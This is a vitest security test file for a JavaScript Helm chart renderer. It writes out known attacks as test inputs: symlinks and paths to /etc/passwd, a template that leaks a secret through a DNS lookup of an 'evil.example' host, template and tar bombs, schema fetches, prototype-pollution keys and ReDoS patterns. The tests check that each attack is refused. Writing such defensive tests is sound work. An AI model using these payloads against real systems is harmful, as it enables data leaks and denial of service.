// The attacks on charts that are known, each with what must go on working beside it.
import { gzipSync } from 'node:zlib';
import { MemoryTree, type TreeInput } from '@gitops-toolkit/core';
import { packTar, type WorkerPool } from '@gitops-toolkit/core/node';
import type { GoMap } from '@gitops-toolkit/go-template';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadChart } from './chart/load-chart.ts';
import { HelmError } from './errors.ts';
import type { RenderResult } from './output/render-result.ts';
import { renderTemplates } from './render/render-templates.ts';
import { render, type RenderOptions } from './render/render.ts';
import { chartOf } from './testing/chart-of.ts';
import { setValues, SetSyntaxError } from './values/set-syntax.ts';
import { userValues } from './values/user-values.ts';
import { renderInWorker } from './worker/render-in-worker.ts';
import { createRenderPool } from './worker/render-pool.ts';

let pool: WorkerPool;
beforeAll(() => {
  pool = createRenderPool({ size: 1, budget: { timeoutMs: 5000, maxHeapMb: 256 } });
});
afterAll(() => pool[Symbol.asyncDispose]());

const release = { name: 'shop' };

const rendered = async (
  files: Record<string, TreeInput>,
  options: Partial<RenderOptions> = {},
): Promise<RenderResult> => render(await chartOf(files), { release, ...options });

/** What the only object of a chart with one template is. */
const output = async (template: string, options: Partial<RenderOptions> = {}): Promise<string | undefined> =>
  (await rendered({ 'templates/a.yaml': template }, options)).manifests[0]?.content;

const failure = async (run: () => Promise<unknown>): Promise<HelmError> => {
  const error: unknown = await run().then(
    () => new Error('it did not fail'),
    (thrown: unknown) => thrown,
  );
  if (error instanceof HelmError) return error;
  throw error;
};

const chartYaml = (more: string): string => `apiVersion: v2\nname: web\nversion: 1.0.0\n${more}\n`;

function packed(files: Record<string, TreeInput>): Uint8Array {
  return gzipSync(Buffer.concat([...packTar(MemoryTree.from(files))]));
}

describe('SEC-HELM-01: --set with huge indices and depths', () => {
  it.each(['a[9999999999]=x', 'a[65537]=x', 'a[1][9999999999]=x', `${'a.'.repeat(31)}b=x`])(
    'refuses %s',
    (text) => {
      expect(() => setValues(Object.create(null) as GoMap, text)).toThrow(SetSyntaxError);
      expect(() => userValues({ set: [text] }, 'v4')).toThrow(/greater than maximum supported/);
    },
  );

  it('takes what people write', () => {
    const values = userValues({ set: ['a[3]=x', `${'b.'.repeat(29)}c=y`] }, 'v4');
    expect(values['a']).toEqual([null, null, null, 'x']);
  });
});

describe('SEC-HELM-02: files of others', () => {
  const foreign = { 'other/values.yaml': 'password: hunter2\n', 'web/Chart.yaml': chartYaml('') };

  it.each<[string, Record<string, TreeInput>]>([
    ['a link out of the tree', { 'web/values.yaml': { symlink: '../../etc/passwd' } }],
    ['an absolute link', { 'web/values.yaml': { symlink: '/etc/passwd' } }],
    ['a link to itself', { 'web/values.yaml': { symlink: 'values.yaml' } }],
    ['a folder that is out of the tree', { 'web/templates': { symlink: '../../../etc' } }],
  ])('does not follow %s', async (_title, files) => {
    const chart = await loadChart(MemoryTree.from({ ...foreign, ...files }), { path: 'web' });
    expect(chart.values).toEqual({});
    expect(chart.templates).toEqual([]);
  });

  it('gives templates no file but those of the chart', async () => {
    const paths = [
      '../other/values.yaml',
      '/etc/passwd',
      'file:///etc/passwd',
      '..\\other\\values.yaml',
      'a/../../x',
    ];
    const template = paths.map((path) => `{{ .Files.Get ${JSON.stringify(path)} }}`).join('');
    expect(await output(`a: "${template}{{ .Files.Glob "../**" | len }}"`)).toBe('a: "0"');
  });

  it('reads files for --set-file only through the function that decides', () => {
    const setFile = ['a=/etc/passwd'];
    expect(() => userValues({ setFile }, 'v4')).toThrow(HelmError);
    const readFile = (path: string): string => `<${path}>`;
    expect(userValues({ setFile, readFile }, 'v4')['a']).toBe('</etc/passwd>');
  });

  it('follows links within the tree', async () => {
    const tree = MemoryTree.from({
      ...foreign,
      'web/values.yaml': { symlink: 'defaults.yaml' },
      'web/defaults.yaml': 'a: 1',
    });
    expect((await loadChart(tree, { path: 'web' })).values).toEqual({ a: 1 });
  });
});

describe('SEC-HELM-03: names of hosts', () => {
  const template = 'a: "{{ getHostByName (printf "%s.evil.example" .Values.secret) }}"';

  it('are not looked up by themselves', async () => {
    const files = { 'values.yaml': 'secret: s3cret', 'templates/a.yaml': template };
    expect((await rendered(files)).manifests[0]?.content).toBe('a: ""');
  });

  it('are looked up where the caller passes a function', async () => {
    const asked: string[] = [];
    const lookupHost = (host: string): string[] => {
      asked.push(host);
      return ['10.0.0.1'];
    };
    const files = { 'values.yaml': 'secret: s3cret', 'templates/a.yaml': template };
    expect((await rendered(files, { sprig: { lookupHost } })).manifests[0]?.content).toBe('a: "10.0.0.1"');
    expect(asked).toEqual(['s3cret.evil.example']);
  });
});

describe('SEC-HELM-04: lookup', () => {
  const secret: GoMap = { data: { password: 'aHVudGVyMg==' } };
  const ask = '(lookup "v1" "Secret" "prod" "db")';

  it('finds nothing unless a function is passed', async () => {
    expect(await output(`a: {{ ${ask} | toJson }}`)).toBe('a: {}');
    const tree = MemoryTree.from({
      'Chart.yaml': chartYaml(''),
      'templates/a.yaml': `a: {{ ${ask} | toJson }}`,
    });
    expect((await renderInWorker(tree, { release, pool })).manifests[0]?.content).toBe('a: {}');
  });

  it('asks with what the caller passes, and nothing else', async () => {
    const lookup = (): GoMap => secret;
    expect(await output(`a: {{ ${ask}.data.password }}`, { lookup })).toBe('a: aHVudGVyMg==');
  });

  it.each([
    `{{ ${ask}.data.password.x }}`,
    `{{ include ${ask} . }}`,
    `{{ index ${ask}.data.password "x" }}`,
    `{{ required "no user" (get ${ask}.data "user" | default nil) }}`,
  ])('says nothing of what was found where a template fails: %s', async (template) => {
    const lines: string[] = [];
    const warn = (line: string): void => void lines.push(line);
    const error = await failure(() => output(`a: ${template}`, { lookup: () => secret, warn }));
    const told = [error.message, error.hint, error.frame, ...lines].join('\n');
    expect(told).not.toContain('aHVudGVyMg');
    expect(lines).toEqual([]);
  });
});

describe('SEC-HELM-05: names that lead elsewhere', () => {
  it.each(['.', '..', 'a/b', '../x', '..\\x', '/x', ''])('refuses a chart called %j', async (name) => {
    const files = { 'Chart.yaml': `apiVersion: v2\nname: ${JSON.stringify(name)}\nversion: 1.0.0\n` };
    expect(await failure(() => rendered(files))).toMatchObject({ code: 'HELM_CHART_INVALID' });
  });

  it('takes nothing out of links of a package', async () => {
    const files = {
      'web/Chart.yaml': chartYaml(''),
      'web/Chart.lock': { symlink: '/etc/passwd' },
      'web/templates/a.yaml': { symlink: '../../../etc/passwd' },
      'web/templates/b.yaml': 'b: 1',
    };
    const chart = await loadChart(packed(files));
    expect(chart.lock).toBeUndefined();
    expect(chart.templates.map(({ name }) => name)).toEqual(['templates/b.yaml']);
  });

  it('has long names as Helm has', async () => {
    const name = 'x'.repeat(300);
    const result = await rendered({
      'Chart.yaml': `apiVersion: v2\nname: ${name}\nversion: 1.0.0\n`,
      'templates/a.yaml': 'a: 1',
    });
    expect(result.manifests[0]?.path).toBe(`${name}/templates/a.yaml`);
  });
});

describe('SEC-HELM-06: nothing where something should be', () => {
  it.each<[string, Record<string, TreeInput>]>([
    ['a dependency', { 'Chart.yaml': chartYaml('dependencies: [null]') }],
    ['dependencies that are a text', { 'Chart.yaml': chartYaml('dependencies: db') }],
    ['a maintainer', { 'Chart.yaml': chartYaml('maintainers: [null]') }],
    ['metadata', { 'Chart.yaml': 'null\n' }],
    ['a list of charts', { 'Chart.yaml': '[null]\n' }],
    ['a schema', { 'values.schema.json': 'null' }],
    ['a schema that is empty', { 'values.schema.json': '' }],
    ['values that are a list', { 'values.yaml': '[null]\n' }],
    [
      'imported values',
      { 'Chart.yaml': chartYaml('dependencies: [{name: db, version: 1.0.0, import-values: [null]}]') },
    ],
  ])('fails with words of its own, or renders: %s', async (_title, files) => {
    const error: unknown = await rendered({
      ...files,
      'charts/db/Chart.yaml': 'apiVersion: v2\nname: db\nversion: 1.0.0\n',
    }).catch((thrown: unknown) => thrown);
    const isOwn = error instanceof HelmError || !(error instanceof Error);
    expect(isOwn).toBe(true);
  });

  it('lets empty files be', async () => {
    const files = {
      'values.yaml': 'null\n',
      'templates/a.yaml': '',
      'templates/b.yaml': 'b: {{ .Values.x }}',
    };
    expect((await rendered(files)).manifests.map(({ content }) => content)).toEqual(['b: ']);
  });
});

describe('SEC-HELM-07: aliases', () => {
  const db = {
    'charts/db/Chart.yaml': 'apiVersion: v2\nname: db\nversion: 1.0.0\n',
    'charts/db/templates/a.yaml': 'a: 1',
  };
  const aliased = (alias: string): Record<string, TreeInput> => ({
    ...db,
    'Chart.yaml': chartYaml(`dependencies: [{name: db, version: 1.0.0, alias: ${JSON.stringify(alias)}}]`),
  });

  it.each(['../x', 'a/b', 'a.b', '..', 'a b', '{{x}}', 'a\nb'])('refuses %j', async (alias) => {
    expect(await failure(() => rendered(aliased(alias)))).toMatchObject({ code: 'HELM_CHART_INVALID' });
  });

  it('takes letters, digits, dashes and underscores', async () => {
    expect((await rendered(aliased('my_db-2'))).manifests[0]?.path).toBe(
      'web/charts/my_db-2/templates/a.yaml',
    );
  });

  it('ends charts that multiply under aliases', async () => {
    const files: Record<string, TreeInput> = {};
    const entries = Array.from({ length: 12 }, (_, i) => `{name: db, version: 1.0.0, alias: a${i}}`).join(
      ', ',
    );
    for (let level = 0, folder = ''; level < 5; level++, folder += 'charts/db/') {
      const name = level === 0 ? 'web' : 'db';
      files[`${folder}Chart.yaml`] =
        `apiVersion: v2\nname: ${name}\nversion: 1.0.0\ndependencies: [${entries}]\n`;
    }
    files['charts/db/charts/db/charts/db/charts/db/charts/db/Chart.yaml'] =
      'apiVersion: v2\nname: db\nversion: 1.0.0\n';
    expect(await failure(() => rendered(files))).toMatchObject({ code: 'HELM_LIMIT' });
  });
});

describe('SEC-HELM-08: template bombs', () => {
  it.each([
    '{{ until 1000000000 }}',
    '{{ untilStep 0 1000000000 1 }}',
    '{{ repeat 1000000000 "x" }}',
    '{{ range until 10000 }}{{ range until 10000 }}{{ end }}{{ end }}',
    '{{ range until 1000000 }}{{ repeat 1000 "x" }}{{ end }}',
    '{{ $s := "x" }}{{ range until 40 }}{{ $s = cat $s $s }}{{ end }}',
    '{{ $d := dict }}{{ range until 40 }}{{ $d = dict "a" $d "b" $d }}{{ end }}{{ toYaml $d }}',
    '{{ $d := dict }}{{ range until 40 }}{{ $d = dict "a" $d "b" $d }}{{ end }}{{ toToml $d }}',
    '{{ range until 1000 }}{{ htpasswd "a" "b" }}{{ end }}',
    '{{ define "a" }}{{ template "a" . }}{{ end }}{{ template "a" . }}',
    '{{ tpl .Values.self . }}',
    '{{ $d := dict }}{{ $_ := set $d "d" $d }}{{ toYaml $d }}',
  ])('end in a worker, and the worker goes on: %s', async (template) => {
    const files = {
      'Chart.yaml': chartYaml(''),
      'values.yaml': 'self: "{{ tpl .Values.self . }}"',
      'templates/a.yaml': template,
    };
    const run = renderInWorker(MemoryTree.from(files), { release, pool, budget: { timeoutMs: 1000 } });
    const error: unknown = await run.catch((thrown: unknown) => thrown);
    const codes = ['HELM_LIMIT', 'HELM_TEMPLATE_FAILED', 'WORKER_TIMEOUT', 'WORKER_HEAP_LIMIT'];
    expect(codes).toContain((error as HelmError).code);
    const next = MemoryTree.from({ ...files, 'templates/a.yaml': 'a: 1' });
    expect((await renderInWorker(next, { release, pool })).manifests).toHaveLength(1);
  });

  it('name the line and the limit in process', async () => {
    const error = await failure(() => output('a: 1\nb: {{ repeat 1000000000 "x" }}'));
    expect(error).toMatchObject({
      code: 'HELM_LIMIT',
      source: { file: 'web/templates/a.yaml', line: 2 },
      hint: 'Raise limits.maxWork if the template is one that you trust.',
    });
  });

  it.each(['env', 'expandenv'])('do not read the environment: %s', async (name) => {
    const error = await failure(() => output(`{{ ${name} "HOME" }}`));
    expect(error.message).toContain(`function "${name}" not defined`);
  });

  it.each(['compiled', 'interpreted'] as const)('end includes after a thousand, %s', async (mode) => {
    const error = await failure(() =>
      output('{{ define "a" }}{{ include "a" . }}{{ end }}{{ include "a" . }}', { mode }),
    );
    expect(error.message).toContain(
      'rendering template has a nested reference name: a: unable to execute template',
    );
  });

  it('leave what charts do: loops, recursion, keys', async () => {
    const template = `{{ define "count" }}{{ if gt . 0 }}{{ include "count" (sub . 1 | int) }}{{ end }}x{{ end -}}
a: {{ include "count" 100 }}
b: {{ range until 1000 }}{{ . }}{{ end }}
c: {{ (genCA "ca" 365).Cert | len }}`;
    expect(await output(template)).toMatch(/^a: x{101}\nb: 0123/);
  });

  it('are told where chance makes the result another each time', async () => {
    const varies = async (
      template: string,
      options: Partial<RenderOptions> = {},
    ): Promise<readonly string[]> => (await rendered({ 'templates/a.yaml': template }, options)).varies;
    expect(await varies('a: {{ randAlphaNum 8 }}')).toEqual(['randomness']);
    expect(await varies('a: "{{ now | unixEpoch }}{{ uuidv4 }}"')).toEqual(['clock', 'randomness']);
    expect(await varies('a: {{ genPrivateKey "ed25519" | len }}')).toEqual(['keys']);
    expect(await varies('a: {{ .Release.Name }}')).toEqual([]);
    expect(await varies('a: "{{ now | unixEpoch }}"', { sprig: { now: () => 0 } })).toEqual([]);
  });
});

describe('SEC-SCHEMA-01: schemas', () => {
  const checked = (schema: string, values = 'a: x'): Promise<RenderResult> =>
    rendered({ 'values.schema.json': schema, 'values.yaml': values, 'templates/a.yaml': 'a: 1' });

  it.each([
    'http://127.0.0.1:1/schema.json',
    'https://example.com/schema.json',
    'file:///etc/passwd',
    '/dev/zero',
    '../other/values.schema.json',
  ])('never fetch %s', async (ref) => {
    const error = await failure(() => checked(JSON.stringify({ $ref: ref })));
    expect(error).toMatchObject({ code: 'HELM_SCHEMA_FAILED' });
  });

  it('end references that go round, and schemas that are too deep', async () => {
    const round = { $ref: '#/$defs/a', $defs: { a: { $ref: '#/$defs/b' }, b: { $ref: '#/$defs/a' } } };
    expect(await failure(() => checked(JSON.stringify(round)))).toBeInstanceOf(HelmError);
    const deep = `${'{"properties":{"a":'.repeat(5000)}{}${'}}'.repeat(5000)}`;
    expect(await failure(() => checked(deep))).toBeInstanceOf(HelmError);
  });

  it('match patterns in linear time', async () => {
    const schema = JSON.stringify({ properties: { a: { pattern: '^(a+)+$' } } });
    const error = await failure(() => checked(schema, `a: ${'a'.repeat(100_000)}!`));
    expect(error).toMatchObject({ code: 'HELM_SCHEMA_FAILED' });
  });

  it('are refused above 5 MiB', async () => {
    const schema = JSON.stringify({ description: 'x'.repeat(5 << 20) });
    expect(await failure(() => checked(schema))).toMatchObject({ code: 'HELM_LIMIT' });
  });

  it('follow what is in the file', async () => {
    const schema = {
      properties: { a: { $ref: '#/$defs/text' } },
      $defs: { text: { type: 'string', pattern: '^x+$' } },
    };
    expect((await checked(JSON.stringify(schema))).manifests).toHaveLength(1);
    const tree = {
      $ref: '#/$defs/node',
      $defs: { node: { properties: { next: { $ref: '#/$defs/node' } } } },
    };
    expect((await checked(JSON.stringify(tree), 'next: {next: {next: {}}}')).manifests).toHaveLength(1);
  });
});

describe('SEC-PROTO-01: names that JavaScript knows', () => {
  const NAMES = [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
  ];
  const clean = (): void => {
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect((Object as unknown as Record<string, unknown>)['polluted']).toBeUndefined();
  };

  it.each(NAMES)('are names of values like any other: %s', async (name) => {
    const result = await rendered(
      {
        'Chart.yaml': chartYaml('dependencies: [{name: db, version: 1.0.0}]'),
        'values.yaml': `${name}: {polluted: 1, prototype: {polluted: 1}}\ndb: {${name}: {polluted: 2}}\nglobal: {${name}: 3}\n`,
        'charts/db/Chart.yaml': 'apiVersion: v2\nname: db\nversion: 1.0.0\n',
        'charts/db/values.yaml': `${name}: {own: 4}\n`,
        'charts/db/templates/a.yaml': `a: {{ index .Values "${name}" | toJson }}\ng: {{ index .Values.global "${name}" }}`,
        'templates/b.yaml': `b: {{ toJson (merge (dict) (dict "${name}" (dict "x" 1)) (index .Values "${name}")) }}`,
      },
      {
        values: userValues(
          { set: [`${name}.deep.polluted=5`], setJson: [`${name}.json={"polluted":6}`] },
          'v4',
        ),
      },
    );
    const [first, second] = result.manifests.map(({ content }) => content);
    expect(first).toBe('a: {"own":4,"polluted":2}\ng: 3');
    expect(second).toContain(`"x":1}`);
    expect(second).toContain('"json":{"polluted":6}');
    clean();
  });

  it.each(NAMES)('are names of templates, variables and files like any other: %s', async (name) => {
    const result = await rendered({
      [`files/${name}`]: 'content',
      'templates/a.yaml': `{{ define "${name}" }}T{{ end }}{{ $${name} := "V" -}}
a: {{ include "${name}" . }}{{ template "${name}" }}{{ $${name} }}{{ .Files.Get "files/${name}" }}{{ .${name} }}`,
    });
    expect(result.manifests[0]?.content).toBe('a: TTVcontent');
    clean();
  });

  it.each(NAMES)('come through maps of functions: %s', async (name) => {
    const template = `{{ $d := dict "${name}" "v" }}{{ $_ := set $d "x" (get $d "${name}") -}}
- {{ toJson $d }}
- {{ hasKey (dict) "${name}" }} {{ keys $d | sortAlpha | join "," }}
- {{ pick $d "${name}" | toJson }}
- {{ fromYaml (toYaml $d) | toJson }}
- {{ fromJson (toJson $d) | toJson }}
- {{ fromToml (toToml $d) | toJson }}
- {{ dig "${name}" "none" (dict) }} {{ default "d" (index (dict) "${name}") }} {{ deepCopy $d | len }}`;
    const json = `{${[`"${name}":"v"`, '"x":"v"'].toSorted().join(',')}}`;
    const files = { 'templates/a.yaml': template };
    const texts = renderTemplates(await chartOf(files), { release });
    expect(texts.get('web/templates/a.yaml')?.split('\n- ')).toEqual([
      `- ${json}`,
      `false ${[name, 'x'].toSorted().join(',')}`,
      `{"${name}":"v"}`,
      json,
      json,
      json,
      'none d 2',
    ]);
    clean();
  });

  it.each(NAMES)('are labels and annotations like any other: %s', async (name) => {
    const template = `kind: A\nmetadata: {name: x, annotations: {${name}: "helm.sh/hook"}, labels: {${name}: a}}`;
    expect((await rendered({ 'templates/a.yaml': template })).hooks).toEqual([]);
    clean();
  });
});

describe('SEC-REDOS-01: patterns of templates', () => {
  it('are matched in linear time', async () => {
    const template = 'a: {{ regexMatch "(a+)+$" (printf "%s!" (repeat 100000 "a")) }}';
    expect(await output(template)).toBe('a: false');
  });

  it.each(['(?<=a)b', '(a)\\\\1', '(?!a)'])(
    'are refused where only JavaScript has them: %s',
    async (pattern) => {
      const error = await failure(() => output(`a: {{ mustRegexMatch "${pattern}" "ab" }}`));
      expect(error.message).toContain('error parsing regexp');
    },
  );

  it('have what Go has', async () => {
    const template = `a: {{ regexReplaceAll "(?P<n>a)" "xax" "\${n}\${n}" }} {{ regexMatch "(?i)A\\\\z" "a" }} {{ regexMatch "^\\\\pN$" "٣" }}`;
    expect(await output(template)).toBe('a: xaax true true');
  });
});

describe('LIM-TAR-01: packages that unpack to more than they are', () => {
  it('end at the size of a file, and of the chart', async () => {
    const zeros = new Uint8Array(6 << 20);
    const bomb = packed({ 'web/Chart.yaml': chartYaml(''), 'web/big': zeros });
    expect(bomb.length).toBeLessThan(20_000);
    expect(await failure(() => loadChart(bomb))).toMatchObject({ code: 'HELM_LIMIT' });
    const parts = Object.fromEntries(
      Array.from({ length: 30 }, (_, i) => [`web/big${i}`, zeros.subarray(0, 4 << 20)]),
    );
    const whole = packed({ 'web/Chart.yaml': chartYaml(''), ...parts });
    expect(await failure(() => loadChart(whole))).toMatchObject({ code: 'HELM_LIMIT' });
  });

  it('may hold what charts hold', async () => {
    const chart = await loadChart(
      packed({ 'web/Chart.yaml': chartYaml(''), 'web/big': new Uint8Array(1 << 20) }),
    );
    expect(chart.files.map(({ name, data }) => [name, data.length])).toEqual([['big', 1 << 20]]);
  });
});
